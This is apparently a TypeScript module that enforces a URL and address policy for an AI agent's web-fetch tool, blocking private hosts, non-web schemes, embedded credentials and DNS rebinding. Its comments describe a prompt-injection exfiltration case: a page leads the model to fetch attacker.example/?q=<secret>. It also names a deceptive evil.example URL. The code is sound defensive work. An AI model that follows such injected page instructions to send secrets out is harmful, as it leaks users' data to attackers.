// Which addresses may be contacted. Every guard below runs before a request and
// again on every redirect hop; what each promises, and what it can't, stands
// beside it. Without a `resolve` hook there is no protection against DNS
// rebinding: a public name may resolve to a private address. On Node
// `pinnedFetch` closes that gap; on Cloudflare and self-hosted workerd the
// network itself reaches public addresses only; a browser's checks are advisory.
import { bareHost, isAddress, refusedAddress } from "./address.ts";
import { type DomainRules, domainRules, normalHost } from "./domain-rules.ts";
import { isAllowedPort } from "./ports.ts";
import { WebError } from "./web-error.ts";

export type CrossOrigin = "report" | "same-site" | "any";

export type PolicyOptions = {
  allowedDomains?: readonly string[];
  blockedDomains?: readonly string[];
  /** Addresses of a host name. Every one must be public, else nothing is requested. */
  resolve?: (hostname: string) => readonly string[] | Promise<readonly string[]>;
  /** When given, only URLs for which it returns true are fetched. */
  knownUrls?: (url: string) => boolean;
  /** What happens to a redirect that leaves the origin. Default: reported, not followed. */
  crossOrigin?: CrossOrigin;
};

export type NetworkPolicy = {
  readonly crossOrigin: CrossOrigin;
  readonly domains: DomainRules;
  /** The URL that `text` spells, ready to be requested: checked, and without its fragment. Throws WebError. */
  checkUrl(text: string): URL;
  /** The same checks on a URL that another answer named. Throws WebError. */
  checkTarget(url: URL): void;
  /** Resolves the host of a checked URL, where a resolver is configured, and checks every answer. Throws WebError. */
  checkResolution(url: URL): Promise<void>;
};

/** Compiles the policy. Fails with INVALID_ARGS on unusable domain rules. `maxUrlLength`: UTF-16 units. */
export function networkPolicy(options: PolicyOptions, maxUrlLength: number): NetworkPolicy {
  const domains = domainRules({ allowed: options.allowedDomains, blocked: options.blockedDomains });
  const checkTarget = (url: URL): void => {
    checkShape(url, maxUrlLength);
    const host = normalHost(bareHost(url.hostname));
    const refusal = refusedHost(host);
    if (refusal !== undefined) throw WebError.of("WEB_BLOCKED_URL", { detail: refusal });
    if (!isAllowedPort(url)) {
      throw WebError.of("WEB_BLOCKED_URL", { detail: `port ${url.port} is not used for web pages` });
    }
    // Threat: a model that was talked into another site. Rules hold for every hop.
    if (!domains.allows(host)) throw WebError.of("WEB_DOMAIN_BLOCKED", { host });
  };
  return {
    crossOrigin: options.crossOrigin ?? "report",
    domains,
    checkTarget,
    checkUrl(text) {
      if (text.length > maxUrlLength) throw tooLong(maxUrlLength);
      const url = parseUrl(text);
      checkTarget(url);
      url.hash = "";
      // Threat: exfiltration. A page tells the model to fetch attacker.example/?q=<secret>;
      // a host that lists the URLs seen so far refuses what the model made up.
      if (options.knownUrls && !options.knownUrls(url.href) && !options.knownUrls(text)) {
        throw WebError.of("WEB_BLOCKED_URL", { detail: `${url.href} is not among the URLs known so far` });
      }
      return url;
    },
    checkResolution: (url) => checkResolution(url, options.resolve),
  };
}

function parseUrl(text: string): URL {
  if (!URL.canParse(text)) {
    throw WebError.of("WEB_INVALID_URL", {
      detail: `${JSON.stringify(text)} is not an absolute URL; write it as https://example.com/page`,
    });
  }
  return new URL(text);
}

function tooLong(limit: number): WebError {
  return WebError.of("WEB_INVALID_URL", { detail: `it is longer than ${limit} characters; use a shorter address` });
}

function checkShape(url: URL, maxUrlLength: number): void {
  // Threat: file:, data:, blob: and friends read what the runtime itself can see.
  if (url.protocol !== "http:" && url.protocol !== "https:") {
    throw WebError.of("WEB_INVALID_URL", { detail: `${url.protocol} is not supported; use http or https` });
  }
  // Threat: https://bank.example@evil.example/ reads like the bank; and some
  // runtimes send the credentials on.
  if (url.username !== "" || url.password !== "") {
    throw WebError.of("WEB_INVALID_URL", { detail: "it holds a user name or password; remove them" });
  }
  // Some engines keep what no name can hold (a blank, as %20), and others refuse it: here it never passes.
  if (!/^(?:[\w.-]*|\[[\da-f:.]+\])$/i.test(url.hostname)) {
    throw WebError.of("WEB_INVALID_URL", { detail: `${JSON.stringify(url.hostname)} is not a host name` });
  }
  if (url.href.length > maxUrlLength) throw tooLong(maxUrlLength);
}

// Names that only mean something inside a machine or a network.
const privateSuffixes = ["localhost", "localdomain", "local", "internal", "home.arpa", "onion"];

/**
 * The reason why a host (no brackets, no root dot) must not be contacted.
 * Threat: names that resolve inside the caller's network, without any DNS trick:
 * localhost, mDNS, a cloud's metadata name, an intranet's single label.
 */
function refusedHost(host: string): string | undefined {
  if (isAddress(host)) {
    const reason = refusedAddress(host);
    return reason && `${host} is a ${reason}`;
  }
  // IPv6-like and numeric leftovers can't be names; `new URL` has turned every number form into four parts.
  if (host === "" || host.includes(":")) return `${JSON.stringify(host)} is not a host name`;
  const labels = host.split(".");
  if (labels.includes("")) return `${host} has an empty label`;
  for (const suffix of privateSuffixes) {
    if (host === suffix || host.endsWith(`.${suffix}`)) return `${host} is a name of a private network`;
  }
  return labels.length < 2 ? `${host} is a single label, which only a private network resolves` : undefined;
}

async function checkResolution(url: URL, resolve: PolicyOptions["resolve"]): Promise<void> {
  const host = normalHost(bareHost(url.hostname));
  if (!resolve || isAddress(host)) return;
  let addresses: readonly string[];
  try {
    addresses = await resolve(host);
  } catch {
    throw WebError.of("WEB_RESOLVE_BLOCKED", { host, detail: "it could not be resolved" });
  }
  if (!Array.isArray(addresses) || addresses.length === 0) {
    throw WebError.of("WEB_RESOLVE_BLOCKED", { host, detail: "it has no address" });
  }
  // Threat: a name with one public and one private address; whichever the
  // connection picks, all must be public.
  for (const address of addresses) {
    const reason = refusedAddress(address);
    if (reason !== undefined) throw WebError.of("WEB_RESOLVE_BLOCKED", { host, detail: `${address} is a ${reason}` });
  }
}
